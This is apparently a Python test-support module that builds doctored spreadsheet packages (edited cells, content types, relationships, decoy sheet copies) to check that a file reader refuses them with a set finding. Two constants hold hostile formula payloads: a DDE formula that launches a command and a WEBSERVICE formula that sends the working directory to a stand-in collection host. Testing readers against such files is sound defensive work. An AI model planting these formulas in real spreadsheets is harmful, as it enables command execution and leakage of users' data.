"""What the reading cases are made of: ``Case`` (a class of issue 17's examples, the finding
it must get and how to build it from a real filled return) and the small package edits
the cases of every example share.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from lxml import etree

from helpers.ooxml import MAIN, NS, PKG_REL, Package

MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
XM = "http://schemas.microsoft.com/office/excel/2006/main"
SML = "application/vnd.openxmlformats-officedocument.spreadsheetml."
DDE = "cmd|' /C calc'!A0"
WEB = '_xlfn.WEBSERVICE("https://collect.example/?d="&INFO("directory"))'

Edit = Callable[[Package], None]


@dataclass(frozen=True)
class Case:
    name: str
    example: int  # the example (1-7) whose class this is
    code: str  # the finding the file must be refused with
    where: tuple[str, str] | None  # (sheet, cell) of that finding, when it has one
    edit: Edit
    base: str = "MELTON"

    def build(self, source: Path, out: Path) -> Path:
        pkg = Package(source)
        self.edit(pkg)
        return pkg.save(out)


# -- small edits ----------------------------------------------------------------------------


def sheet_part(pkg: Package, name: str) -> tuple[str, etree._Element]:
    part = pkg.sheet_parts()[name]
    return part, pkg.xml(part)


def edit_sheet(pkg: Package, name: str, change: Callable[[etree._Element], None]) -> None:
    part, root = sheet_part(pkg, name)
    change(root)
    pkg.put(part, root)


def element(tag: str, ns: str = MAIN, **attrs: str) -> etree._Element:
    return etree.Element(f"{{{ns}}}{tag}", **attrs)


def after_sheet_data(root: etree._Element, *elements: etree._Element) -> None:
    data = root.find("m:sheetData", NS)
    for el in reversed(elements):
        data.addnext(el)


def set_cell(pkg: Package, sheet: str, coord: str, xml: str) -> None:
    """Replace a cell's content with ``xml`` (children and, in a leading <c ...>, attributes)."""

    def change(root: etree._Element) -> None:
        old = pkg.cell(root, coord)
        new = etree.fromstring(f'<c xmlns="{MAIN}" r="{coord}" {xml}</c>')
        if old.get("s") and new.get("s") is None:
            new.set("s", old.get("s"))
        old.getparent().replace(old, new)

    edit_sheet(pkg, sheet, change)


def set_content_type(pkg: Package, part: str, content_type: str) -> None:
    root = pkg.xml("[Content_Types].xml")
    for el in root.findall("ct:Override", NS):
        if el.get("PartName") == "/" + part:
            el.set("ContentType", content_type)
    pkg.put("[Content_Types].xml", root)


def package_rels(pkg: Package) -> etree._Element:
    return pkg.xml("_rels/.rels")


def relate(
    pkg: Package,
    source: str,
    rel_type: str,
    target: str,
    rid: str | None = None,
    first: bool = False,
) -> None:
    name = Package.rels_name(source) if source else "_rels/.rels"
    root = pkg.xml(name)
    el = etree.Element(
        f"{{{PKG_REL}}}Relationship", Id=rid or f"rIdX{len(root) + 1}", Type=rel_type, Target=target
    )
    if first:
        root.insert(0, el)
    else:
        root.append(el)
    pkg.put(name, root)


def copy_sheet(pkg: Package, sheet: str, new_part: str, coord: str, value: str) -> None:
    """A copy of a sheet's part with other figures: the decoy some reader could take instead."""
    part, root = sheet_part(pkg, sheet)
    cell = pkg.cell(root, coord)
    for child in list(cell):
        cell.remove(child)
    cell.attrib.pop("t", None)
    etree.SubElement(cell, f"{{{MAIN}}}v").text = value
    pkg.put(new_part, root)
    pkg.add_content_type(new_part, content_type=SML + "worksheet+xml")
